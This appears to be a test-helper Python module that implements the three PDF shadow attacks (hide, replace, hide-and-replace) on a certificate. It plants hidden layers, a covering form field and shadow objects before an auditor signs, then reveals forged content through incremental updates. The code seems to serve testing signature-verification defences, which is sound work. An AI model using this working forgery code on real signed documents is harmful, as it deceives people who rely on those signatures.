"""Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021): content planted before signing, revealed after.

:func:`plant` adds, to an unsigned certificate, what all three variants need; the auditor then signs
that file in good faith (it shows nothing unusual), and each reveal is an incremental update after signing:

- hide: the forged page sits in an optional-content layer that is off; the update only turns it on;
- replace: an empty read-only form field covers the page; the update fills it with an opaque appearance;
- hide-and-replace: second versions of page 1, /Info and the attachments' file specifications wait in an
  unreferenced object stream; the update is a lone xref stream that points those objects at it.
"""

from __future__ import annotations

import io
import re
from collections.abc import Mapping

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from tests.unit.report.pdf_attacks import Attack, Payload
from tests.unit.report.pdf_surgery import (
    FONT,
    append_update,
    info_dict,
    layout,
    next_free,
    page_content,
    serialise,
    stream,
    trailer_entries,
    xref_stream,
)

SHADOW_FIELD = "AtkVerdict"

_SHADOW_STM = re.compile(rb"(\d+) 0 obj\s*<<\s*/Type\s*/ObjStm\s*/AtkShadow")


def _name(text: str) -> generic.NameObject:
    return generic.NameObject(text)


def _pdf_dict(**entries: generic.PdfObject) -> generic.DictionaryObject:
    return generic.DictionaryObject({_name("/" + k): v for k, v in entries.items()})


def _helvetica() -> generic.DictionaryObject:
    font = _pdf_dict(Type=_name("/Font"), Subtype=_name("/Type1"), BaseFont=_name("/Helvetica"))
    font[_name("/Encoding")] = _name("/WinAnsiEncoding")
    return _pdf_dict(Font=_pdf_dict(AtkF=font))


def _box(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) for v in values)


def _form(writer: IncrementalPdfFileWriter, content: bytes, **extra: generic.PdfObject) -> generic.IndirectObject:
    entries = _pdf_dict(Type=_name("/XObject"), Subtype=_name("/Form"), BBox=_box(0, 0, 595, 842), **extra)
    entries[_name("/Resources")] = _helvetica()
    return writer.add_object(generic.StreamObject(entries, stream_data=content))


def _plant_hidden_layer(writer: IncrementalPdfFileWriter, page: generic.DictionaryObject, payload: Payload) -> None:
    """Hide: the forged page drawn in an optional-content group that is off by default."""
    ocg = writer.add_object(_pdf_dict(Type=_name("/OCG"), Name=generic.TextStringObject("Annotations")))
    config = writer.add_object(_pdf_dict(Order=generic.ArrayObject([ocg]), OFF=generic.ArrayObject([ocg])))
    writer.root[_name("/OCProperties")] = _pdf_dict(OCGs=generic.ArrayObject([ocg]), D=config)
    writer.update_root()
    form = _form(writer, page_content(payload.lines), OC=ocg)
    resources = page["/Resources"]
    resources["/XObject"][_name("/AtkFm")] = form
    writer.update_container(resources)
    push, pop, draw = (writer.add_object(generic.StreamObject(stream_data=op)) for op in (b"q", b"Q", b"/AtkFm Do"))
    page[_name("/Contents")] = generic.ArrayObject([push, page.raw_get("/Contents"), pop, draw])


def _plant_form_field(
    writer: IncrementalPdfFileWriter, page: generic.DictionaryObject, page_ref: generic.IndirectObject
) -> None:
    """Replace: an empty, read-only text field over the page; filling it later overlays the verdict."""
    appearance = _form(writer, b"")
    widget = _pdf_dict(
        Type=_name("/Annot"),
        Subtype=_name("/Widget"),
        FT=_name("/Tx"),
        T=generic.TextStringObject(SHADOW_FIELD),
        V=generic.TextStringObject(""),
        Rect=_box(0, 0, 595, 842),
        F=generic.NumberObject(4),
        Ff=generic.NumberObject(1),
        P=page_ref,
        DA=generic.TextStringObject("/AtkF 12 Tf 0 g"),
        AP=_pdf_dict(N=appearance),
    )
    field = writer.add_object(widget)
    page[_name("/Annots")] = generic.ArrayObject([field])
    form = _pdf_dict(
        Fields=generic.ArrayObject([field]), DA=generic.TextStringObject("/AtkF 12 Tf 0 g"), DR=_helvetica()
    )
    writer.root[_name("/AcroForm")] = writer.add_object(form)
    writer.update_root()


def _object_stream(objects: Mapping[int, bytes]) -> generic.StreamObject:
    """An object stream holding ``objects`` under the given numbers (tagged /AtkShadow)."""
    header, body = bytearray(), bytearray()
    for num, text in objects.items():
        header += b"%d %d " % (num, len(body))
        body += text + b"\n"
    entries = _pdf_dict(Type=_name("/ObjStm"), AtkShadow=generic.BooleanObject(True))
    entries[_name("/N")] = generic.NumberObject(len(objects))
    entries[_name("/First")] = generic.NumberObject(len(header))
    return generic.StreamObject(entries, stream_data=bytes(header + body))


def _plant_shadow_objects(writer: IncrementalPdfFileWriter, page_ref: generic.IndirectObject, payload: Payload) -> None:
    """Hide-and-replace: unreferenced second versions of page 1, /Info and both attachments' file specs."""
    lay_info = writer.trailer.raw_get("/Info").idnum
    content = writer.add_object(generic.StreamObject(stream_data=page_content(payload.lines)))
    page = generic.DictionaryObject(dict(page_ref.get_object()))
    page[_name("/Contents")] = content
    page[_name("/Resources")] = _helvetica()
    page.pop(_name("/Annots"), None)
    shadows = {page_ref.idnum: serialise(page), lay_info: info_dict(payload.info)}
    pairs = list(writer.root["/Names"]["/EmbeddedFiles"]["/Names"])
    for name, spec_ref in zip(pairs[::2], pairs[1::2], strict=True):
        blob = payload.attachments[str(name)]
        stream_obj = generic.StreamObject(_pdf_dict(Type=_name("/EmbeddedFile")), stream_data=blob)
        spec = generic.DictionaryObject(dict(spec_ref.get_object()))
        spec[_name("/EF")] = _pdf_dict(F=writer.add_object(stream_obj))
        shadows[spec_ref.idnum] = serialise(spec)
    writer.add_object(_object_stream(shadows))


def plant(unsigned: bytes, payload: Payload) -> bytes:
    """The unsigned certificate with the objects all three shadow attacks need, before the auditor signs it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(unsigned), strict=False)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    _plant_hidden_layer(writer, page, payload)
    _plant_form_field(writer, page, page_ref)
    writer.update_container(page)
    _plant_shadow_objects(writer, page_ref, payload)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hide(data: bytes) -> bytes:
    """Reveal the hidden layer: an update that only turns the optional-content group on."""
    lay = layout(data)
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    config = reader.root["/OCProperties"].raw_get("/D")
    ocg = serialise(reader.root["/OCProperties"]["/OCGs"].raw_get(0))
    return append_update(lay, {config.idnum: b"<< /Order [" + ocg + b"] /ON [" + ocg + b"] >>"})


def replace(payload: Payload) -> Attack:
    """Fill the planted field: an update giving it a value and an opaque appearance that says ``payload``."""

    def forge(data: bytes) -> bytes:
        lay = layout(data)
        reader = PdfFileReader(io.BytesIO(data), strict=False)
        fields = [ref for ref in reader.root["/AcroForm"]["/Fields"] if ref.get_object().get("/T") == SHADOW_FIELD]
        widget = generic.DictionaryObject(dict(fields[0].get_object()))
        num = next_free(lay, {})
        widget[_name("/V")] = generic.TextStringObject(" / ".join(payload.lines))
        widget[_name("/AP")] = _pdf_dict(N=generic.IndirectObject(num, 0, None))
        look = stream(
            page_content(payload.lines), b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources " + FONT
        )
        return append_update(lay, {fields[0].idnum: serialise(widget), num: look})

    return forge


def hide_and_replace(data: bytes) -> bytes:
    """Swap in the shadow objects: an update holding only an xref stream that points at them."""
    lay = layout(data)
    stm = int(_SHADOW_STM.findall(data)[-1])
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    header = reader.get_object(generic.Reference(stm, 0)).data.split()
    nums = [int(n) for n in header[: 2 * int(reader.get_object(generic.Reference(stm, 0))["/N"]) : 2]]
    start = len(data) if data.endswith(b"\n") else len(data) + 1
    size = lay.size
    entries = trailer_entries(lay, size=size + 1, prev=lay.startxref)
    xref = xref_stream(size, {**{n: (stm, i) for i, n in enumerate(nums)}, size: start}, entries)
    body = data if data.endswith(b"\n") else data + b"\n"
    return body + xref + b"startxref\n%d\n%%%%EOF\n" % start
